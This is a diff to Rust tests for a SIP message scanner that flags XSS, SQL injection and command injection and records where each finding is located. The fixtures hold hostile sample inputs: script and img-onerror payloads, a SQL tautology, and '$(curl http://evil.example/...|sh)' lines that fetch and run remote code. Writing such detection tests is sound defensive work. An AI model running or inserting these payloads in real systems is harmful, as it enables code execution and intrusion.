@@ -49,13 +49,17 @@ fn ordinary_messages_have_no_findings() {
 }
 
 #[test]
-fn attacks_are_found_wherever_they_stand_and_told_once() {
+fn attacks_are_found_wherever_they_stand() {
     let script = "<script>alert(1)</script>";
     let cases = [
-        (message(ALICE, "", script), "", "xss"),
-        (message(ALICE, "", "1' OR '1'='1' -- "), "", "sqli"),
-        (message(ALICE, "", "$(curl http://evil.example/x.sh|sh)"), "", "command-injection"),
-        (message(ALICE, "", r#"{"a":{"b":"\u003cscript\u003ealert(1)\u003c/script\u003e"}}"#), "/a/b", "xss"),
+        (message(ALICE, "", script), "|body", "xss"),
+        (message(ALICE, "", "1' OR '1'='1' -- "), "|body", "sqli"),
+        (message(ALICE, "", "$(curl http://evil.example/x.sh|sh)"), "|body", "command-injection"),
+        (
+            message(ALICE, "", r#"{"a":{"b":"\u003cscript\u003ealert(1)\u003c/script\u003e"}}"#),
+            "|body|json/a/b",
+            "xss",
+        ),
         (message(&format!("\"{script}\" <sip:a@b>"), "", "hi"), "|header:From|name", "xss"),
         (
             message("\"$(curl http://evil.example/x|sh)\" <sip:a@b>", "", ""),
@@ -73,8 +77,16 @@ fn attacks_are_found_wherever_they_stand_and_told_once() {
         (format!("MESSAGE sip:{script}@b SIP/2.0\r\n\r\n"), "", "xss"),
     ];
     for (message, place, category) in cases {
-        assert_eq!(found(&message), [(place.to_owned(), category)], "{message}");
+        let found = found(&message);
+        assert!(found.contains(&(place.to_owned(), category)), "{found:?} {message}");
     }
+}
+
+#[test]
+fn what_is_found_in_a_part_is_not_told_of_the_whole_again() {
+    let sent = message(ALICE, "Subject: <img src=x onerror=alert(1)>\r\n", "<img src=x onerror=alert(1)>");
+    let told = [("|body".to_owned(), "xss"), ("|header:Subject".to_owned(), "xss")];
+    assert_eq!(found(&sent), told);
 }
 
 #[test]
@@ -83,7 +95,10 @@ fn a_text_that_pretends_to_be_a_message_hides_nothing_between_its_parts() {
         ["<img src=x SIP/2.0\r\n\r\nonerror=alert(1)>", "SIP/2.0 <img src=x\r\nA:\r\n onerror=alert(1)>"]
     {
         let found = found(text);
-        assert!(!found.is_empty() && found.iter().all(|(_, category)| *category == "xss"), "{text} {found:?}");
+        assert!(
+            !found.is_empty() && found.iter().all(|(_, category)| *category == "xss"),
+            "{text} {found:?}"
+        );
     }
 }
 
